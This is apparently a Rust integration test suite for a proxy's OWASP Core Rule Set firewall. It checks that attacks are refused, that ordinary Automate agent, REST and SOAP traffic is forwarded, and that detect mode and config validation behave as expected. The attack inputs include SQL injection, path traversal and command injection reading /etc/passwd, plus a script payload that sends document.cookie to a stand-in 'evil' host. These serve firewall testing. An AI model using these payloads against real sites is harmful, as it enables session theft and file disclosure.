//! The OWASP Core Rule Set through a real node (Debian's `modsecurity-crs`, CRS 3.3): attacks in
//! the URL, headers and bodies refused with `crs:<rule>`, ordinary Automate traffic forwarded
//! (the Automate exclusion set), per-instance `crs = false` and detect mode, explain showing
//! what matched, `rpaas check` listing what CRS cannot run, bad CRS keys refused by field.

mod common;

use std::time::Duration;

use common::*;

const CRS: &str = "/usr/share/modsecurity-crs";
const ATTACKER: &str = "203.0.113.66";

fn config(up: std::net::SocketAddr, node_ips: &str) -> String {
    format!(
        r#"
[node]
admin = "127.0.0.1:0"

[node.ips]
crs = "{CRS}"
{node_ips}

[[listener]]
address = "127.0.0.1:0"
client_ip = "x-forwarded-for"
trusted_proxies = ["127.0.0.0/8"]

[[instance]]
id = "a"
hostnames = ["{HOST_A}"]
cert = "a.pem"
key = "a.key"
upstream = "http://{up}"
deployment = "all-traffic"

[[instance]]
id = "b"
hostnames = ["{HOST_B}"]
cert = "b.pem"
key = "b.key"
upstream = "http://{up}"
deployment = "all-traffic"
[instance.ips]
crs = false
"#
    )
}

fn fixture() -> Option<Fixture> {
    if !std::path::Path::new(CRS).join("rules").is_dir() {
        eprintln!("{CRS} is not installed (scripts/deps.sh installs modsecurity-crs): skipped");
        return None;
    }
    let fx = Fixture::new();
    fx.ca.write_leaf(fx.path(), "a", &[HOST_A]);
    fx.ca.write_leaf(fx.path(), "b", &[HOST_B]);
    Some(fx)
}

fn send(node: &Node, fx: &Fixture, host: &str, raw: &str) -> client::Response {
    client::exchange(node.listeners[0], &fx.tls(host), raw.as_bytes()).expect("request")
}

fn get(node: &Node, fx: &Fixture, host: &str, target: &str, extra: &str) -> client::Response {
    send(
        node,
        fx,
        host,
        &format!(
            "GET {target} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nX-Forwarded-For: {ATTACKER}\r\n{extra}Connection: close\r\n\r\n"
        ),
    )
}

fn post(
    node: &Node,
    fx: &Fixture,
    host: &str,
    target: &str,
    ct: &str,
    body: &[u8],
) -> client::Response {
    post_with(node, fx, host, target, ct, "", body)
}

fn post_with(
    node: &Node,
    fx: &Fixture,
    host: &str,
    target: &str,
    ct: &str,
    extra: &str,
    body: &[u8],
) -> client::Response {
    let mut raw = format!(
        "POST {target} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nX-Forwarded-For: {ATTACKER}\r\nContent-Type: {ct}\r\n{extra}Content-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    )
    .into_bytes();
    raw.extend_from_slice(body);
    client::exchange(node.listeners[0], &fx.tls(host), &raw).expect("request")
}

#[test]
fn crs_refuses_attacks_and_forwards_automate_traffic() {
    let Some(fx) = fixture() else { return };
    let up = Upstream::start();
    let node = Node::start(bin(), fx.path(), &config(up.addr, "builtin = false"));
    let reason_of = |path: &str| {
        node.wait_log(Duration::from_secs(5), |v| {
            v["status"].is_number() && v["path"].as_str().is_some_and(|p| p.starts_with(path))
        })
        .map(|v| v["reason"].as_str().unwrap_or("").to_string())
        .unwrap_or_default()
    };

    // Attacks (the shipped rules are off: what refuses them is CRS).
    let attacks: Vec<(&str, client::Response)> = vec![
        (
            "/sqli",
            get(&node, &fx, HOST_A, "/sqli?id=1%27%20or%20%271%27%3D%271", ""),
        ),
        (
            "/xss",
            get(&node, &fx, HOST_A, "/xss?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
        ),
        ("/lfi", get(&node, &fx, HOST_A, "/lfi?f=../../../../etc/passwd", "")),
        (
            "/rce",
            post(
                &node,
                &fx,
                HOST_A,
                "/rce",
                "application/x-www-form-urlencoded",
                b"cmd=%3B%20cat%20%2Fetc%2Fpasswd",
            ),
        ),
        (
            "/cwa/api/v1/tickets",
            post(
                &node,
                &fx,
                HOST_A,
                "/cwa/api/v1/tickets",
                "application/json",
                br#"{"Summary":"x","Details":"<script>document.location='http://evil/'+document.cookie</script>"}"#,
            ),
        ),
    ];
    for (path, r) in &attacks {
        assert_eq!(r.status, 403, "{path}: {}", r.text());
        let reason = reason_of(path);
        assert!(reason.starts_with("crs:9"), "{path}: reason {reason:?}");
    }
    let line = node
        .wait_log(Duration::from_secs(5), |v| {
            v["status"].is_number() && v["path"] == "/sqli"
        })
        .expect("log line");
    assert!(line["crs_score"].as_i64().is_some_and(|s| s >= 5), "{line}");
    assert!(
        line["crs_rules"]
            .as_str()
            .is_some_and(|r| r.contains("942")),
        "{line}"
    );

    // The same attack on the instance with `crs = false` is forwarded.
    let r = get(
        &node,
        &fx,
        HOST_B,
        "/sqli-b?id=1%27%20or%20%271%27%3D%271",
        "",
    );
    assert_ne!(r.status, 403, "{}", r.text());
    assert_eq!(reason_of("/sqli-b"), "", "forwarded (the upstream answers)");

    // Ordinary Automate traffic: agent check-ins with opaque bodies, REST filters, the
    // Control Center's SOAP, a technician's script.
    let mut opaque = b"\x00\x01\x02\x7f".to_vec();
    opaque.extend_from_slice(b"' or 1=1 -- <script> ../../ union select 1,2 ; cat /etc/passwd");
    let benign: Vec<(&str, client::Response)> = vec![
        (
            "agent",
            post(&node, &fx, HOST_A, "/LabTech/Agent.aspx", "application/octet-stream", &opaque),
        ),
        (
            "rest filter",
            get(
                &node,
                &fx,
                HOST_A,
                "/cwa/api/v1/computers?condition=ComputerName%20contains%20%27SRV%27%20and%20LastContact%20%3E%20%272024-01-01%27&orderBy=ComputerName%20asc&pageSize=50",
                "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl\r\n",
            ),
        ),
        (
            "soap",
            post_with(
                &node,
                &fx,
                HOST_A,
                "/LabTech/ControlCenter.asmx",
                "text/xml; charset=utf-8",
                "SOAPAction: \"http://tempuri.org/GetComputers\"\r\n",
                br#"<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetComputers xmlns="http://tempuri.org/"><filter>ClientID = 3 AND LastContact &gt; '2024-01-01'</filter></GetComputers></soap:Body></soap:Envelope>"#,
            ),
        ),
        ("portal", get(&node, &fx, HOST_A, "/automate/computers?page=2", "")),
        (
            "technician command",
            post(
                &node,
                &fx,
                HOST_A,
                "/cwa/api/v1/Computers/12/CommandExecute",
                "application/json",
                br#"{"Command":{"Id":2},"Parameters":["cat /etc/os-release; uname -a"]}"#,
            ),
        ),
        (
            "soap command",
            post_with(
                &node,
                &fx,
                HOST_A,
                "/LabTech/ControlCenter.asmx",
                "text/xml; charset=utf-8",
                "SOAPAction: \"http://tempuri.org/SendCommand\"\r\n",
                br#"<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><SendCommand xmlns="http://tempuri.org/"><computerId>12</computerId><parameters>type C:\Windows\Temp\setup.log</parameters></SendCommand></soap:Body></soap:Envelope>"#,
            ),
        ),
    ];
    for (what, r) in &benign {
        assert_ne!(r.status, 403, "{what}: {}", r.text());
    }
    for path in [
        "/LabTech/Agent.aspx",
        "/cwa/api/v1/computers",
        "/LabTech/ControlCenter.asmx",
    ] {
        assert_eq!(reason_of(path), "", "{path} forwarded");
    }

    // Explain against the running node says why, rule by rule.
    let (status, body) = node.admin_post(
        "/explain",
        &serde_json::json!({"host": HOST_A, "ip": ATTACKER, "method": "GET", "target": "/x?id=1%27%20or%20%271%27%3D%271"}).to_string(),
    );
    assert_eq!(status, 200, "{body}");
    let e: serde_json::Value = serde_json::from_str(&body).expect("json");
    assert!(
        e["reason"].as_str().is_some_and(|r| r.starts_with("crs:")),
        "{e}"
    );
    assert_eq!(e["crs_paranoia"], 1, "{e}");
    assert!(
        e["crs_matches"].as_array().is_some_and(|m| !m.is_empty()),
        "{e}"
    );
    assert!(
        e["rule"].as_str().is_some_and(|r| r.contains("OWASP CRS")),
        "{e}"
    );
}

#[test]
fn detect_mode_forwards_and_logs_what_crs_found() {
    let Some(fx) = fixture() else { return };
    let up = Upstream::start();
    let cfg = config(up.addr, "builtin = false").replace(
        "deployment = \"all-traffic\"\n\n[[instance]]",
        "deployment = \"all-traffic\"\n[instance.ips]\nmode = \"detect\"\nparanoia = 2\n\n[[instance]]",
    );
    let node = Node::start(bin(), fx.path(), &cfg);
    let r = get(&node, &fx, HOST_A, "/d?id=1%27%20or%20%271%27%3D%271", "");
    assert_ne!(r.status, 403, "{}", r.text());
    let line = node
        .wait_log(Duration::from_secs(5), |v| {
            v["status"].is_number() && v["path"] == "/d"
        })
        .expect("log line");
    assert!(line["crs_score"].as_i64().is_some_and(|s| s >= 5), "{line}");
    let metrics = node.admin_get("/metrics");
    assert!(
        metrics.contains(r#"rule="crs:942"#) && metrics.contains(r#"action="detect""#),
        "{metrics}"
    );
}

#[test]
fn check_lists_what_crs_does_not_run_and_refuses_bad_keys() {
    let Some(fx) = fixture() else { return };
    let p = fx.path().join("rpaas.toml");
    let run = |cfg: &str| {
        std::fs::write(&p, cfg).expect("write");
        let out = std::process::Command::new(bin())
            .args(["check", "--config"])
            .arg(&p)
            .output()
            .expect("rpaas check");
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stdout).into_owned()
                + &String::from_utf8_lossy(&out.stderr),
        )
    };
    let up: std::net::SocketAddr = "127.0.0.1:9".parse().expect("addr");
    let (code, text) = run(&config(up, ""));
    assert_eq!(code, Some(0), "{text}");
    assert!(
        text.contains("rules at paranoia level 1; Automate exclusions on"),
        "{text}"
    );
    assert!(text.contains("crs: not run: rule 910100"), "{text}");

    for (extra, key, reason) in [
        ("paranoia = 7", "node.ips.paranoia", "1..=4"),
        ("crs_exclusions = \"yes\"", "node.ips.crs_exclusions", ""),
    ] {
        let (code, text) = run(&config(up, extra));
        assert_eq!(code, Some(1), "{extra}: {text}");
        assert!(
            text.contains(key) && text.contains(reason),
            "{extra}: {text}"
        );
    }
    let missing = config(up, "").replace(CRS, "/nonexistent/crs");
    let (code, text) = run(&missing);
    assert_eq!(code, Some(1), "{text}");
    assert!(
        text.contains(": node.ips.crs: ") && text.contains("not a directory"),
        "{text}"
    );
    let no_crs = config(up, "").replace(&format!("crs = \"{CRS}\"\n"), "");
    let (code, text) = run(&no_crs.replace("crs = false", "paranoia = 2"));
    assert_eq!(code, Some(1), "{text}");
    assert!(
        text.contains("ips.paranoia") && text.contains("the node runs no CRS"),
        "{text}"
    );
}
